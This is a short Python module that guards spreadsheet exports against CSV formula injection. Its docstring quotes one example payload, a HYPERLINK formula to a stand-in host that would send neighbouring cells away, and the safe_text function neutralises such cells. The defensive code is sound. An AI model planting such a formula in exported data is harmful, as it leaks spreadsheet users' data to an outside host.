"""Text written into a CSV or XLSX file that someone will open in a spreadsheet.

A cell whose text starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read as a formula
by Excel, LibreOffice and Google Sheets (CSV injection, OWASP): a name such as
`=HYPERLINK("https://evil.example/?"&A1;"klik")` would become a live link that sends the
neighbouring cells away. Every export passes its text through `safe_text`, which puts a `'` in
front (what a spreadsheet user types to mean "this is text"); numbers and dates are not text and
are left alone. XLSX cells holding text are also typed as strings, never as formulas.
"""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_text(value):
    """`value` itself unless it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value
